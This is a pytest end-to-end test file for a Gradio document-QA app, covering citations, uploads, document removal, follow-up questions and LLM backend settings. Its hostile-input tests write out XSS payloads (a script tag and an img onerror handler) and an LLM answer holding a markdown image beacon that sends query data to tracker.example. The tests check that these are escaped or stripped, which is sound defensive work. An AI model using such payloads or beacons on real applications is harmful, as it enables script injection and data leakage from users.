"""The Gradio app end to end through gradio_client: real model, real server, real uploads."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from gradio_client import Client, handle_file

from rag.indexing.catalog import list_documents
from rag.settings import Settings
from tests.llm_server import FakeLLMServer
from tests.ui_server import (
    ALIBABA,
    ALIBABA_SOURCE,
    HOSTILE_DOCUMENT,
    HOSTILE_QUESTION,
    indexed_settings,
    running_app,
)

pytestmark = pytest.mark.slow

LORIENT = "Le festival de Lorient a accueilli 850 000 visiteurs en 2024."


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Settings]]:
    settings, embedder = indexed_settings(tmp_path_factory.mktemp("ui"))
    with running_app(settings, embedder) as url:
        yield url, settings


def client(app: tuple[str, Settings]) -> Client:
    # A new client is a new session: no chat history carried from another test.
    return Client(app[0], verbose=False)


def ask(app: tuple[str, Settings], question: str) -> tuple[str, str]:
    """(answer HTML, sources panel HTML) of a one-question conversation."""
    chat, sources, _box = client(app).predict(question, api_name="/ask")
    assert chat[-2]["role"] == "user" and chat[-1]["role"] == "assistant"
    return chat[-1]["content"][0]["text"], sources


def upload(app: tuple[str, Settings], path: Path) -> tuple[Any, ...]:
    return tuple(client(app).predict([handle_file(str(path))], api_name="/upload"))


def visible_text(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html)


def test_question_is_answered_with_the_key_fact_cited_and_highlighted(app: tuple[str, Settings]) -> None:
    answer, sources = ask(app, ALIBABA)
    assert "30" in visible_text(answer)
    assert re.search(r'<a class="rag-cite" href="#t1-src-(\d+)">\[\1\]</a>', answer)
    assert ALIBABA_SOURCE in sources and 'id="t1-src-' in sources
    marked = re.findall(r'<mark class="rag-supported">(.*?)</mark>', sources)
    assert any("30 personnes" in span for span in marked)
    assert "<details" in answer and "Timings:" in answer


def test_uploaded_document_is_indexed_listed_and_cited(app: tuple[str, Settings], tmp_path: Path) -> None:
    article = tmp_path / "festival-lorient.md"
    article.write_text(f"# Festival interceltique de Lorient\n\n{LORIENT}\n", encoding="utf-8")
    results, table, _choice, files, _removed = upload(app, article)
    assert "festival-lorient.md</span> — indexed" in results
    assert "Festival interceltique de Lorient" in table and files is None
    answer, sources = ask(app, "Combien de visiteurs le festival de Lorient a-t-il accueillis en 2024 ?")
    assert "850 000" in visible_text(answer)
    assert "festival-lorient.md" in sources and "<mark" in sources


def test_hostile_document_is_shown_escaped(app: tuple[str, Settings], tmp_path: Path) -> None:
    hostile = tmp_path / "musee.txt"  # plain text keeps the markup (Markdown is read without its HTML)
    hostile.write_text(HOSTILE_DOCUMENT, encoding="utf-8")
    results, table, *_ = upload(app, hostile)
    assert "— indexed" in results
    answer, sources = ask(app, HOSTILE_QUESTION)
    assert "12 000" in visible_text(answer)
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in sources
    assert "&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;" in sources
    for html in (answer, sources, table):
        assert not re.search(r"<\s*(script|img)", html, re.IGNORECASE)
        assert not re.search(r"<[^>]*\son\w+\s*=", html, re.IGNORECASE)


def test_oversized_and_unsupported_files_are_refused_with_a_reason(app: tuple[str, Settings], tmp_path: Path) -> None:
    slides = tmp_path / "slides.pptx"
    slides.write_bytes(b"PK\x03\x04 not an article")
    results, *_ = upload(app, slides)
    assert "slides.pptx</span> — skipped: unsupported file type .pptx" in results


def test_removing_a_document_takes_it_out_of_the_answers(app: tuple[str, Settings], tmp_path: Path) -> None:
    article = tmp_path / "brest.md"
    article.write_text("# Port de Brest\n\nLe port de Brest a accueilli 4 200 escales de navires en 2022.\n")
    upload(app, article)
    doc_id = next(d.doc_id for d in list_documents(app[1]) if d.title == "Port de Brest")
    session = client(app)
    session.predict(api_name="/documents")  # loads the dropdown's choices, as the page does
    status, table, _choice, results = session.predict(doc_id, api_name="/remove_document")
    assert "Removed “Port de Brest”" in status and "uploaded copy was deleted" in status
    assert results == ""  # the upload's "✓ indexed" is not left beside it
    assert "Port de Brest" not in table
    _, sources = ask(app, "Combien d'escales de navires le port de Brest a-t-il accueillies en 2022 ?")
    assert "brest.md" not in sources


def _rewritten(answer: str) -> str:
    """The rewritten question shown in the answer's trace (not the passages listed after it)."""
    found = re.search(r"Rewritten question:\s*</b>(.*?)</p>", answer, re.DOTALL)
    assert found, answer
    return found.group(1)


def test_follow_up_question_uses_the_conversation(app: tuple[str, Settings]) -> None:
    session = client(app)  # one session: the second question sees the first turn
    session.predict("Quel laboratoire Alibaba a-t-il fermé ?", api_name="/ask")
    chat, _sources, _box = session.predict("Et combien de personnes y travaillaient ?", api_name="/ask")
    answer = chat[-1]["content"][0]["text"]
    assert len(chat) == 4 and "30" in visible_text(answer)
    assert "searched as asked" not in answer and "Alibaba" in _rewritten(answer)
    # A follow-up to the follow-up: the history holds the resolved question, so the topic carries on.
    chat, _sources, _box = session.predict("Et depuis quand ?", api_name="/ask")
    answer = chat[-1]["content"][0]["text"]
    assert "Alibaba" in _rewritten(answer) and "2017" in visible_text(answer)


def test_llm_backend_is_checked_before_it_applies_and_its_answer_streams(app: tuple[str, Settings]) -> None:
    session = client(app)
    refused = session.predict("openai", "http://127.0.0.1:9/v1", "m", "", 5, api_name="/save_settings")
    assert "Not saved" in refused and "not reachable" in refused
    script = "Environ 30 personnes y travaillaient [1]. ![pixel](http://tracker.example/p.png?q=alibaba)"
    with FakeLLMServer(script=script, chunk_delay_seconds=0.05) as llm:
        try:
            saved = session.predict("openai", llm.url, "test-model", "", 4, api_name="/save_settings")
            assert "Saved." in saved and "test-model" in saved
            job = client(app).submit(ALIBABA, api_name="/ask")
            chat, sources, _box = job.result()
            answer = chat[-1]["content"][0]["text"]
            assert "30 personnes" in visible_text(answer) and ALIBABA_SOURCE in sources
            assert "tracker.example" not in answer and "<img" not in answer
            partial = [update[0][-1]["content"][0]["text"] for update in job.outputs()]
            assert any("rag-streaming" in text for text in partial), "tokens were not streamed"
            assert not any(re.search(r"<\s*img", text, re.IGNORECASE) for text in partial)
        finally:
            session.predict("extractive", "", "", "", 5, api_name="/save_settings")
